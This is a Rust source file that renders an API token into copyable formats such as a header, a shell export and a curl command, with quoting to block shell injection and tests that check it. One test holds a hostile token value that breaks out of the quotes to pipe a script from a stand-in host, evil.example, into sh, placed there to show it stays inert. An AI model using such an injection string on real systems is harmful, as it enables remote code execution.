//! The shapes a token's value can be copied in. Each is what a person would
//! paste somewhere: a header, a shell line, a curl command that works as is.

use serde::Deserialize;
use zeroize::Zeroizing;

/// How to copy a token.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, specta::Type)]
#[serde(rename_all = "camelCase")]
pub enum CopyFormat {
    /// The value alone: `idt:TKN-…:…`.
    #[default]
    Value,
    /// `Authorization: Bearer idt:TKN-…:…`.
    AuthorizationHeader,
    /// ` export MPT_API_TOKEN='idt:TKN-…:…'`.
    ShellExport,
    /// A `curl` command that reads the token itself from its connection's API, its header
    /// given on standard input.
    Curl,
    /// The token's id (`TKN-…`), which is not secret.
    TokenId,
    /// The API address of the token's connection, which is not secret.
    ApiBaseUrl,
}

impl CopyFormat {
    /// Whether the copied text holds the secret (everything but the id and the address).
    pub fn is_secret(self) -> bool {
        !matches!(self, Self::TokenId | Self::ApiBaseUrl)
    }

    /// What the clipboard holds after a copy, in words ("the curl command for Billing export").
    pub fn describe(self, token_name: &str) -> String {
        match self {
            Self::Value => format!("the value of {token_name}"),
            Self::AuthorizationHeader => format!("the Authorization header for {token_name}"),
            Self::ShellExport => format!("the export line for {token_name}"),
            Self::Curl => format!("the curl command for {token_name}"),
            Self::TokenId => format!("the ID of {token_name}"),
            Self::ApiBaseUrl => "the API address".to_owned(),
        }
    }

    /// The text to copy. `value` is the token's secret, `base_url` the API
    /// address of its connection, as the client normalised it.
    ///
    /// The shell formats quote everything they hold, so that nothing in them is ever
    /// interpreted, and start with a space, which keeps the line out of the history of
    /// bash (with `HISTCONTROL` holding `ignorespace`, the default of Debian and Ubuntu) and
    /// of zsh with `HIST_IGNORE_SPACE`. The value is only ever an argument of a shell
    /// builtin (`export`, `printf`), never of a program, so `ps` cannot see it; curl reads
    /// its header from standard input (`-H @-`).
    pub fn render(self, value: &str, token_id: &str, base_url: &str) -> Zeroizing<String> {
        let base_url = base_url.trim_end_matches('/');
        Zeroizing::new(match self {
            Self::Value => value.to_owned(),
            Self::AuthorizationHeader => format!("Authorization: Bearer {value}"),
            Self::ShellExport => format!(" export MPT_API_TOKEN={}", shell_quoted(value)),
            Self::Curl => format!(
                " printf '%s\\n' {} | curl --fail-with-body -sS -H @- {}",
                shell_quoted(&format!("Authorization: Bearer {value}")),
                shell_quoted(&format!("{base_url}/public/v1/accounts/api-tokens/{token_id}"))
            ),
            Self::TokenId => token_id.to_owned(),
            Self::ApiBaseUrl => base_url.to_owned(),
        })
    }
}

/// `text` in single quotes for a POSIX shell: nothing inside is interpreted,
/// and a `'` in it (a proxy's path may hold one) is closed, escaped, reopened.
fn shell_quoted(text: &str) -> String {
    format!("'{}'", text.replace('\'', r"'\''"))
}

#[cfg(test)]
mod tests {
    use super::*;

    const VALUE: &str = "idt:TKN-1234-5678:AbCdEf0123456789";

    #[test]
    fn every_format_byte_for_byte() {
        let render = |format: CopyFormat| format.render(VALUE, "TKN-1234-5678", "https://api.s1.show/").to_string();
        assert_eq!(render(CopyFormat::Value), VALUE);
        assert_eq!(render(CopyFormat::AuthorizationHeader), "Authorization: Bearer idt:TKN-1234-5678:AbCdEf0123456789");
        assert_eq!(render(CopyFormat::ShellExport), " export MPT_API_TOKEN='idt:TKN-1234-5678:AbCdEf0123456789'");
        assert_eq!(
            render(CopyFormat::Curl),
            " printf '%s\\n' 'Authorization: Bearer idt:TKN-1234-5678:AbCdEf0123456789' | curl --fail-with-body -sS \
             -H @- 'https://api.s1.show/public/v1/accounts/api-tokens/TKN-1234-5678'"
        );
        assert_eq!(render(CopyFormat::TokenId), "TKN-1234-5678");
        assert_eq!(render(CopyFormat::ApiBaseUrl), "https://api.s1.show");
    }

    #[test]
    fn a_quote_in_the_address_cannot_break_out_of_the_curl_command() {
        let curl = CopyFormat::Curl.render(VALUE, "TKN-1234-5678", "https://proxy.example.com/o'brien");
        assert!(
            curl.ends_with(r"'https://proxy.example.com/o'\''brien/public/v1/accounts/api-tokens/TKN-1234-5678'"),
            "{}",
            *curl
        );
    }

    #[test]
    fn a_hostile_value_stays_one_quoted_word_in_every_shell_format() {
        // Refused before it gets here (the value's shape is checked), and inert even so.
        let hostile = "idt:TKN-1234-5678:x';curl https://evil.example|sh;'";
        let export = CopyFormat::ShellExport.render(hostile, "TKN-1234-5678", "https://api.s1.show");
        let output = std::process::Command::new("sh")
            .arg("-c")
            .arg(format!("{}; printf %s \"$MPT_API_TOKEN\"", *export))
            .output()
            .expect("sh runs");
        assert_eq!(String::from_utf8_lossy(&output.stdout), hostile, "exported as one word, nothing run");
        for format in [CopyFormat::ShellExport, CopyFormat::Curl] {
            let line = format.render(VALUE, "TKN-1234-5678", "https://api.s1.show");
            assert!(line.starts_with(' '), "kept out of shell history: {format:?}");
        }
    }

    #[test]
    fn only_the_id_is_not_secret() {
        for format in [CopyFormat::Value, CopyFormat::AuthorizationHeader, CopyFormat::ShellExport, CopyFormat::Curl] {
            assert!(format.is_secret(), "{format:?}");
        }
        assert!(!CopyFormat::TokenId.is_secret());
        assert!(!CopyFormat::ApiBaseUrl.is_secret());
    }
}
